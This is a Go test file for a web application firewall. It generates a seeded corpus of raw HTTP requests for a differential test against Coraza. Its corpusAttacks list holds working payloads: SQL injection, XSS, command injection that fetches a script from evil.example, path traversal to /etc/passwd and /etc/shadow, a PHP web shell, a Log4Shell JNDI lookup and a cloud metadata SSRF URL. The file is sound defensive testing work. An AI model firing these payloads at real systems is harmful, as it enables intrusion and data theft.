package waf

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
)

// The generated corpus of the differential test: requests built from a
// fixed seed, so every run sends the same ones. About a third carry an
// attack (SQL injection, XSS, command injection, path traversal, PHP and
// Java injection, SSRF), in a query parameter, a JSON or form body, a
// cookie or a header, plainly or URL-encoded, with changed case or with
// padding; the rest is ordinary API traffic, non-ASCII text included.

var (
	corpusWords = []string{"book", "blue shoes", "Maria Lopez", "order", "invoice", "2026-12-06", "89.90", "Madrid",
		"maria.lopez@example.com", "+34 612 345 678", "Leave it with the concierge", "été", "Grüße", "東京", "😀",
		"550e8400-e29b-41d4-a716-446655440000", "true", "null", "SHOE-BLU-42", "catalogue", "selection", "script writer",
		"select a size", "union station", "drop-off point", "cat food", "/home/docs", "a&b", "50%", "x=1", "\u212aelvin", "\u017fun"}
	corpusAttacks = []string{"1' OR '1'='1", "1 UNION SELECT password FROM users--", "'; DROP TABLE users; --",
		"1 AND SLEEP(5)", "admin'--", "1;WAITFOR DELAY '0:0:5'", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
		"javascript:alert(document.cookie)", "<svg/onload=alert(1)>", "\"><iframe src=javascript:alert(1)>",
		"; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "&& wget http://evil.example/x.sh", "; b'u's'y'b'o'x sh",
		"../../../../etc/passwd", "..\\..\\windows\\win.ini", "/proc/self/environ", "<?php system($_GET['c']); ?>",
		"php://filter/convert.base64-encode/resource=index", "${jndi:ldap://evil.example/a}", "java.lang.Runtime.getRuntime().exec(\"id\")",
		"{{7*7}}", "http://169.254.169.254/latest/meta-data/", "file:///etc/shadow", "%00", "../../etc/hosts%00.jpg",
		"1' AnD 1=1 /*comment*/ uNiOn SeLeCt 1,2,3", "<ScRiPt>prompt(1)</sCrIpT>", "eval(base64_decode('ZWNobyAx'))"}
	corpusNames  = []string{"q", "id", "page", "sort", "name", "email", "comment", "redirect", "file", "callback", "filter", "search"}
	corpusAgents = []string{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
		"curl/8.5.0", "okhttp/4.12.0", "python-requests/2.31", "sqlmap/1.7.2#stable", "Nikto/2.5.0", "bench/1.0"}
)

// generatedRequests returns n raw HTTP/1.1 requests.
func generatedRequests(n int) [][]byte {
	rng := rand.New(rand.NewPCG(21, 7))
	out := make([][]byte, 0, n)
	for i := 0; i < n; i++ {
		out = append(out, generatedRequest(rng))
	}
	return out
}

// corpusValue is a benign or (a third of the time) hostile value, in one
// of several spellings.
func corpusValue(rng *rand.Rand) string {
	v := corpusWords[rng.IntN(len(corpusWords))]
	if rng.IntN(3) == 0 {
		v = corpusAttacks[rng.IntN(len(corpusAttacks))]
	}
	switch rng.IntN(6) {
	case 0:
		v = strings.ToUpper(v)
	case 1:
		v = "  " + v + "\t"
	case 2:
		v = v + " " + corpusWords[rng.IntN(len(corpusWords))]
	}
	return v
}

func generatedRequest(rng *rand.Rand) []byte {
	method := []string{"GET", "GET", "POST", "PUT", "DELETE"}[rng.IntN(5)]
	// Distinct names within a request (a repeated one makes Coraza's
	// own answers vary, see TestPrefilterDifferential).
	names := rng.Perm(len(corpusNames))
	q := url.Values{}
	for k := rng.IntN(4); k > 0; k-- {
		q.Set(corpusNames[names[k]], corpusValue(rng))
	}
	target := fmt.Sprintf("/api/v1/%s/%d", []string{"items", "orders", "users", "files"}[rng.IntN(4)], rng.IntN(1000))
	if len(q) > 0 {
		target += "?" + q.Encode()
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: %s\r\nAccept: application/json\r\n", method, target, corpusAgents[rng.IntN(len(corpusAgents))])
	if rng.IntN(4) == 0 {
		fmt.Fprintf(&b, "Cookie: session=%s; theme=%s\r\n", url.QueryEscape(corpusValue(rng)), url.QueryEscape(corpusValue(rng)))
	}
	if rng.IntN(6) == 0 {
		fmt.Fprintf(&b, "Referer: https://app.example.com/%s\r\n", url.PathEscape(corpusValue(rng)))
	}
	body, ctype := "", ""
	if method == "POST" || method == "PUT" {
		if rng.IntN(3) == 0 {
			f := url.Values{}
			for k := 1 + rng.IntN(3); k > 0; k-- {
				f.Set(corpusNames[names[4+k]], corpusValue(rng))
			}
			body, ctype = f.Encode(), "application/x-www-form-urlencoded"
		} else {
			var members []string
			for k := 1 + rng.IntN(4); k > 0; k-- {
				members = append(members, fmt.Sprintf("%q:%q", corpusNames[names[7+k]], corpusValue(rng)))
			}
			body, ctype = "{"+strings.Join(members, ",")+"}", "application/json"
		}
		fmt.Fprintf(&b, "Content-Type: %s\r\nContent-Length: %d\r\n", ctype, len(body))
	}
	b.WriteString("\r\n")
	b.WriteString(body)
	return []byte(b.String())
}
